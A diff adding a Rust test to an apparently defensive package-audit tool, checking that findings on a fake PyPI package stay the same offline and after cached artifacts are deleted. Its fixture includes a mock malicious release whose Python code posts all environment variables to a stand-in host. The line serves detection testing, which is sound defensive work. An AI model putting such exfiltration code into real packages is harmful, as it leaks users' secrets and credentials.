@@ -195,6 +195,47 @@ fn a_second_audit_parses_nothing_and_needs_no_network() {
 }
 
 #[test]
+fn what_was_tasted_is_judged_again_without_its_bytes() {
+    serving(async || {
+        let file = |version: &str, time: &str, code: &str| {
+            let (manifest, module) = (format!("x-{version}/PKG-INFO"), format!("x-{version}/x.py"));
+            let text = format!("Metadata-Version: 2.1\nName: x\nVersion: {version}\n");
+            let packed = tar_gz(&[(&manifest, text.as_str()), (&module, code)]);
+            FakeFile::new(&format!("x-{version}.tar.gz"), &packed).uploaded(time)
+        };
+        let sends =
+            "import os, requests\nrequests.post('https://c.example.invalid/', data=os.environ)\n";
+        let project = FakeProject::new("x")
+            .file(file("1.0", "2026-01-01T00:00:00Z", "print('hello')\n"))
+            .file(file("1.1", "2026-06-01T00:00:00Z", sends));
+        let python = FakePypi::new().project(project).start().await;
+        let module = [("index.js", "console.log(process.env.HOME)\n")];
+        let node = FakeNpm::new()
+            .version("y", "1.0.0", &json!({}), &module)
+            .start()
+            .await;
+        let home = Home::new()
+            .with("PIP_INDEX_URL", &format!("{}/simple", python.url()))
+            .with("npm_config_registry", &node.url());
+        let targets = ["--offline", "pypi:x", "npm:y"];
+        let (first, _) = home.audit(&targets[1..]);
+        assert_eq!(first["releases"][0]["compared_with"], "1.0");
+        drop((python, node));
+        let (with_bytes, _) = home.audit(&targets);
+        std::fs::remove_dir_all(home.path().join("cache/http/artifacts")).expect("was filled");
+        let (without, _) = home.audit(&targets);
+        assert_eq!(with_bytes, without);
+        let findings = |report: &serde_json::Value| report["releases"][0]["findings"].clone();
+        assert_eq!(findings(&first), findings(&without));
+        let digest = &without["releases"][1]["artifacts"][0]["index_digest"];
+        assert_eq!(digest, "match", "{without:#}");
+        // without facts, the bytes are asked for again
+        let run = home.run(&["audit", "--no-cache", "--offline", "pypi:x"]);
+        assert_eq!(run.code, 3, "{}", run.stdout);
+    });
+}
+
+#[test]
 fn an_unreachable_index_is_no_accusation_and_no_pass() {
     let home = Home::new().with("PIP_INDEX_URL", "http://127.0.0.1:9/simple");
     home.write("foretaste.toml", "[network]\nretries = 0\n");
